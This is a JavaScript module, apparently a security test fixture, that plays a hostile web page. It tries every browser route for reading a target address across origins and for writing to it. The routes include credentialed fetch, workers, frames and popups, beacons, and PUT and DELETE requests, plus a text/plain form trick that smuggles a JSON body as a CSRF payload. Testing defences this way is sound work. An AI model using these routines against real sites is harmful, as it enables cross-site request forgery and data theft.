// What a hostile page runs: every way that a browser offers to read or to write somewhere else, each one tried.

const patience = 8000

/** 'got' with what was readable, or null: nothing came back that a script could use. */
const got = (promise) =>
  Promise.race([
    promise.then(
      (what) => what ?? null,
      () => null,
    ),
    new Promise((resolve) => setTimeout(() => resolve(null), patience)),
  ])

const loaded = (name, set) =>
  got(
    new Promise((resolve, reject) => {
      const node = document.createElement(name)
      node.addEventListener('load', () => resolve(node))
      node.addEventListener('error', reject)
      set(node)
      document.body.append(node)
    }),
  )

const texts = async (response) => `${response.status} ${await response.text()}`

/** A frame loads even when it is refused: what counts is whether its inside can be read. */
function inside(name, attribute) {
  return async (address) => {
    const node = await loaded(name, (one) => one.setAttribute(attribute, address))
    return node?.contentDocument?.body?.textContent || null
  }
}

async function opened(address) {
  const other = open(address, 'other', 'popup')
  await new Promise((resolve) => setTimeout(resolve, 400))
  const text = other?.document?.body?.textContent ?? null
  other?.close()
  return text || null
}

async function byWorker(address) {
  const lines = `fetch(${JSON.stringify(address)}).then((r) => r.text()).then(postMessage, () => postMessage(null))`
  const worker = new Worker(URL.createObjectURL(new Blob([lines])))
  return new Promise((resolve) => worker.addEventListener('message', ({ data }) => resolve(data)))
}

async function byServiceWorker(address) {
  const theirs = await navigator.serviceWorker.register(address).catch(() => null)
  if (theirs !== null) return 'registered'
  await navigator.serviceWorker.register('/worker.js')
  const { active } = await navigator.serviceWorker.ready
  const channel = new MessageChannel()
  const answer = new Promise((resolve) =>
    channel.port1.addEventListener('message', ({ data }) => resolve(data)),
  )
  channel.port1.start()
  active.postMessage(address, [channel.port2])
  return answer
}

const talked = (address) =>
  new Promise((resolve, reject) => {
    const socket = new WebSocket(address.replace('http', 'ws'))
    socket.addEventListener('open', () => resolve('open'))
    socket.addEventListener('error', reject)
  })

const heard = (address) =>
  new Promise((resolve, reject) => {
    const source = new EventSource(address)
    source.addEventListener('open', () => resolve('open'))
    source.addEventListener('error', () => {
      source.close()
      reject(new Error('closed'))
    })
  })

const ways = {
  cors: (address) => fetch(address).then(texts),
  credentials: (address) => fetch(address, { credentials: 'include' }).then(texts),
  opaque: (address) =>
    fetch(address, { mode: 'no-cors' }).then((response) =>
      response.type === 'opaque' ? null : texts(response),
    ),
  worker: byWorker,
  service: byServiceWorker,
  module: (address) => import(address).then(() => 'module'),
  script: (address) =>
    loaded('script', (node) => (node.src = address)).then((node) => node && 'ran'),
  style: (address) =>
    loaded('link', (node) => Object.assign(node, { rel: 'stylesheet', href: address })).then(
      (node) => node && 'styled',
    ),
  image: (address) => loaded('img', (node) => (node.src = address)).then((node) => node && 'seen'),
  frame: inside('iframe', 'src'),
  object: inside('object', 'data'),
  window: opened,
  events: heard,
  socket: talked,
}

/** Way → what a script of this page could make of it; null is nothing. */
export async function read(address, only = Object.keys(ways)) {
  const found = {}
  for (const [name, way] of Object.entries(ways).filter(([one]) => only.includes(one))) {
    const marked = `${address}${address.includes('?') ? '&' : '?'}try=${name}`
    found[name] = await got(Promise.resolve().then(() => way(marked)))
  }
  return found
}

const enctypes = ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']

/** As text/plain a form can say any JSON: the equals sign that the browser adds goes into a text. */
async function posted(address, enctype, body) {
  const frame = Object.assign(document.createElement('iframe'), { name: `f${Math.random()}` })
  const form = document.createElement('form')
  Object.assign(form, { action: address, method: 'POST', enctype, target: frame.name })
  const field = document.createElement('input')
  Object.assign(field, { name: `${body.slice(0, -1)},"x":"`, value: '"}' })
  form.append(field)
  document.body.append(frame, form)
  const answered = new Promise((resolve) => frame.addEventListener('load', resolve))
  form.submit()
  await got(answered)
}

const plain = (method, type, mode) => (address, body) => {
  const options = { method, mode, headers: { 'content-type': type }, body, keepalive: true }
  return fetch(address, options)
}

const writes = {
  ...Object.fromEntries(
    enctypes.map((type) => [`form ${type}`, (address, body) => posted(address, type, body)]),
  ),
  beacon: async (address, body) => void navigator.sendBeacon(address, body),
  'beacon json': async (address, body) =>
    void navigator.sendBeacon(address, new Blob([body], { type: 'application/json' })),
  'no-cors': plain('POST', 'text/plain', 'no-cors'),
  cors: plain('POST', 'application/json', 'cors'),
  'cors text': plain('POST', 'text/plain', 'cors'),
  put: plain('PUT', 'application/json', 'cors'),
  delete: (address) => fetch(address, { method: 'DELETE', mode: 'cors' }),
}

/** Tries to make the other side keep the body, whatever it answers. */
export async function write(address, body) {
  for (const [name, way] of Object.entries(writes))
    await got(Promise.resolve().then(() => way(`${address}?try=${encodeURIComponent(name)}`, body)))
  return Object.keys(writes).length
}

Object.assign(globalThis, { attack: { read, write } })
